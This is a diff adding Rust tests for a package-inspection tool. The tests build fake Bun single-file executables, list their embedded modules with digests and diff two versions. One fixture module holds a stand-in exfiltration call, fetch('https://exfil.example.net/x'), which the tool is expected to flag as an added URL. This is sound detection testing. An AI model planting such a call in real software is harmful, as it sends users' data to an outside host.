@@ -1,0 +1,272 @@
+//! Bun single-file executables: a generated Bun-like ELF (header bytes, fake code, a `.bun`-style
+//! module graph, fake symbol tables after it) packed in a tgz is inspected, its embedded modules
+//! are listed with their sha256, and a diff of two generated versions reports embedded modules
+//! changed and added and a URL added inside one. Corrupt graphs are ignored without a panic.
+//! No real Claude Code data: everything is built here, in the layout of Bun's
+//! `StandaloneModuleGraph.zig` (52-byte module records, 32-byte offsets, trailer).
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use sha2::{Digest, Sha256};
+use std::io::Write;
+use vetted::content::manifest::EntryKind;
+use vetted::content::{ContentManifest, InspectOptions, inspect_file};
+use vetted::diff::{self, SignalKind};
+use vetted::limits::Limits;
+
+const TRAILER: &[u8] = b"\n---- Bun! ----\n";
+
+/// The graph blob: strings, module table, exec argv, offsets, trailer.
+fn graph(modules: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut blob = Vec::new();
+    let put = |blob: &mut Vec<u8>, b: &[u8]| {
+        let p = (blob.len() as u32, b.len() as u32);
+        blob.extend_from_slice(b);
+        blob.push(0);
+        p
+    };
+    let mut table = Vec::new();
+    for (name, contents) in modules {
+        let n = put(&mut blob, name.as_bytes());
+        let c = put(&mut blob, contents);
+        for (off, len) in [n, c, (0, 0), (0, 0), (0, 0), n] {
+            table.extend_from_slice(&off.to_le_bytes());
+            table.extend_from_slice(&len.to_le_bytes());
+        }
+        table.extend_from_slice(&[1, 1, 1, 0]); // latin1, js, esm, server
+    }
+    let table_at = blob.len() as u32;
+    blob.extend_from_slice(&table);
+    let argv = put(&mut blob, b"--smol");
+    let byte_count = blob.len() as u64;
+    blob.extend_from_slice(&byte_count.to_le_bytes());
+    blob.extend_from_slice(&table_at.to_le_bytes());
+    blob.extend_from_slice(&(table.len() as u32).to_le_bytes());
+    blob.extend_from_slice(&0u32.to_le_bytes()); // entry point
+    blob.extend_from_slice(&argv.0.to_le_bytes());
+    blob.extend_from_slice(&argv.1.to_le_bytes());
+    blob.extend_from_slice(&0u32.to_le_bytes()); // flags
+    blob.extend_from_slice(TRAILER);
+    blob
+}
+
+/// Where the graph starts in [`executable`]'s output.
+const GRAPH_AT: usize = 100_000 + 8;
+
+/// A Bun-like ELF: header, fake code (over the 64 KiB floor), `.bun` (u64 length + graph), tables.
+fn executable(modules: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
+    exe.resize(4096, 0);
+    exe.extend_from_slice(b"https://bun.sh/ \n---- Bun! ----\n (the constant, in rodata)");
+    exe.resize(100_000, 0x90);
+    let g = graph(modules);
+    exe.extend_from_slice(&((g.len() - 48) as u64).to_le_bytes());
+    exe.extend_from_slice(&g);
+    exe.extend_from_slice(&[0x11; 5000]); // .comment, .symtab, section headers...
+    exe
+}
+
+fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (name, data) in files {
+        let mut h = tar::Header::new_ustar();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o755);
+        h.set_cksum();
+        b.append_data(&mut h, name, *data).unwrap();
+    }
+    let mut e = GzEncoder::new(Vec::new(), Compression::fast());
+    e.write_all(&b.into_inner().unwrap()).unwrap();
+    e.finish().unwrap()
+}
+
+fn inspect(bytes: &[u8], expect_archive: bool) -> ContentManifest {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("artifact");
+    std::fs::write(&path, bytes).unwrap();
+    inspect_file(
+        &path,
+        &InspectOptions {
+            limits: Limits::default(),
+            expect_archive,
+        },
+    )
+    .unwrap()
+}
+
+fn sha(b: &[u8]) -> String {
+    format!("sha256:{}", hex::encode(Sha256::digest(b)))
+}
+
+const PKG: &[u8] = br#"{"name":"@x/bunapp","version":"1.0.0"}"#;
+const CLI_V1: &[u8] = b"import './chunk.js'; console.log(process.env.HOME)";
+const CHUNK_V1: &[u8] = b"export const api = 'https://api.example.com/v1';";
+const CHUNK_V2: &[u8] =
+    b"export const api = 'https://api.example.com/v1'; fetch('https://exfil.example.net/x')";
+const ADDON: &[u8] = b"\x7fELF\x02\x01\x01\0native addon";
+
+fn v1() -> Vec<u8> {
+    executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/chunk.js", CHUNK_V1),
+    ])
+}
+
+fn v2() -> Vec<u8> {
+    executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/chunk.js", CHUNK_V2),
+        ("/$bunfs/root/addon.node", ADDON),
+    ])
+}
+
+#[test]
+fn embedded_modules_are_listed_with_their_digests() {
+    let exe = v1();
+    let m = inspect(
+        &tgz(&[("package/package.json", PKG), ("package/claude", &exe)]),
+        true,
+    );
+    assert!(m.notes.is_empty(), "{:?}", m.notes);
+    let cli = &m.entries["package/claude!/$bunfs/root/cli.js"];
+    assert_eq!(cli.kind, EntryKind::Embedded);
+    assert_eq!(cli.size, CLI_V1.len() as u64);
+    assert_eq!(cli.sha256.as_ref().unwrap().to_string(), sha(CLI_V1));
+    assert!(cli.signals.env_vars.contains("HOME"));
+    let chunk = &m.entries["package/claude!/$bunfs/root/chunk.js"];
+    assert_eq!(chunk.sha256.as_ref().unwrap().to_string(), sha(CHUNK_V1));
+    assert!(chunk.signals.urls.contains("https://api.example.com/v1"));
+    // The executable itself is still a file with its own digest; totals count archive files only.
+    assert_eq!(
+        m.entries["package/claude"]
+            .sha256
+            .as_ref()
+            .unwrap()
+            .to_string(),
+        sha(&exe)
+    );
+    assert_eq!(m.totals.files, 2);
+    assert_eq!(m.entries.len(), 4);
+    // The same executable inspected on its own (not in an archive).
+    let alone = inspect(&exe, false);
+    let (name, _) = alone
+        .entries
+        .iter()
+        .find(|(_, e)| e.kind == EntryKind::File)
+        .unwrap();
+    let key = format!("{name}!/$bunfs/root/chunk.js");
+    assert_eq!(
+        alone.entries[&key].sha256.as_ref().unwrap().to_string(),
+        sha(CHUNK_V1)
+    );
+    // The manifest JSON round-trips with the new kind.
+    let json = serde_json::to_string(&m).unwrap();
+    assert!(json.contains(r#""kind":"embedded""#));
+    let back: ContentManifest = serde_json::from_str(&json).unwrap();
+    assert_eq!(back, m);
+}
+
+#[test]
+fn diff_reports_embedded_changes_and_their_signals() {
+    let old = inspect(
+        &tgz(&[("package/package.json", PKG), ("package/claude", &v1())]),
+        true,
+    );
+    let new = inspect(
+        &tgz(&[("package/package.json", PKG), ("package/claude", &v2())]),
+        true,
+    );
+    let r = diff::diff("old", &old, "new", &new);
+    let added: Vec<&str> = r.files.added.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(added, ["package/claude!/$bunfs/root/addon.node"]);
+    let changed: Vec<&str> = r.files.changed.iter().map(|f| f.path.as_str()).collect();
+    assert!(
+        changed.contains(&"package/claude!/$bunfs/root/chunk.js"),
+        "{changed:?}"
+    );
+    assert!(changed.contains(&"package/claude"));
+    assert!(!changed.contains(&"package/claude!/$bunfs/root/cli.js"));
+    let url = r
+        .signals
+        .iter()
+        .find(|s| s.kind == SignalKind::UrlAdded && s.subject == "https://exfil.example.net/x")
+        .expect("url-added from the embedded module");
+    assert!(
+        url.files
+            .contains(&"package/claude!/$bunfs/root/chunk.js".to_string()),
+        "{:?}",
+        url.files
+    );
+    assert!(
+        r.signals
+            .iter()
+            .any(|s| s.kind == SignalKind::NativeAddonAdded
+                && s.subject == "package/claude!/$bunfs/root/addon.node"),
+        "{:?}",
+        r.signals
+    );
+}
+
+#[test]
+fn corrupt_graphs_are_ignored_without_panic() {
+    let good = v2();
+    let region = good.len() - GRAPH_AT;
+    let mut state = 0x9e37_79b9_7f4a_7c15u64;
+    let mut next = || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    // In memory through the same path as a plain file (fast): a few hundred mutations.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("exe");
+    let opts = InspectOptions::default();
+    for round in 0..300 {
+        let mut bad = good.clone();
+        for _ in 0..1 + round % 6 {
+            let at = GRAPH_AT + (next() as usize % region);
+            bad[at] = next() as u8;
+        }
+        if round % 7 == 0 {
+            bad.truncate(GRAPH_AT + next() as usize % region);
+        }
+        std::fs::write(&path, &bad).unwrap();
+        let m = inspect_file(&path, &opts).expect("a corrupt graph never fails the inspection");
+        for (p, e) in &m.entries {
+            if e.kind == EntryKind::Embedded {
+                assert!(p.contains("!/"));
+                assert!(e.size <= bad.len() as u64);
+            }
+        }
+    }
+    // A wrong trailer: no modules, nothing else changes.
+    let mut bad = good.clone();
+    let t = bad.len() - 5000 - 16;
+    bad[t + 3] ^= 0xff;
+    let m = inspect(&tgz(&[("package/claude", &bad)]), true);
+    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
+    // An offset past the end: a note, no modules.
+    let mut bad = good.clone();
+    bad[t - 24..t - 20].copy_from_slice(&u32::MAX.to_le_bytes());
+    let m = inspect(&tgz(&[("package/claude", &bad)]), true);
+    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
+    assert_eq!(m.notes.len(), 1, "{:?}", m.notes);
+    // A graph that starts before the kept tail: a note saying so.
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("a.tgz");
+    std::fs::write(&p, tgz(&[("package/claude", &good)])).unwrap();
+    let limits = Limits {
+        embedded_graph_bytes: 5100,
+        ..Limits::default()
+    };
+    let m = inspect_file(
+        &p,
+        &InspectOptions {
+            limits,
+            expect_archive: true,
+        },
+    )
+    .unwrap();
+    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
+    assert!(m.notes[0].contains("embedded_graph_bytes"), "{:?}", m.notes);
+}
